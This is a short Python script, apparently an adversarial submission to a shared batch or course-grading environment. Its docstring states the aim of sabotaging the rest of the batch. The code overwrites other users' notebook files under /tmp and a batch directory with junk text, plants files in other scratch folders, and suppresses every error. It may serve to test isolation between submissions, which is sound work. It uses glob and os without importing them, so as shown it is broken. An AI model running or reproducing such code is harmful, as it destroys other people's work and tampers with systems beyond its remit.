"""Sabotage the rest of the batch: overwrite other submissions and other scratch folders."""
import itertools
for pattern in ("/tmp/*/*.ipynb", "__BATCH__/**/*.ipynb", "/tmp/course-run-*"):
    try:
        for path in itertools.islice(glob.iglob(pattern, recursive=True), 200):
            try:
                if os.path.isdir(path):
                    open(os.path.join(path, "planted.py"), "w").write("x = 1")
                elif os.getcwd() not in path:
                    open(path, "w").write("not a notebook any more")
            except OSError:
                pass
    except OSError:
        pass
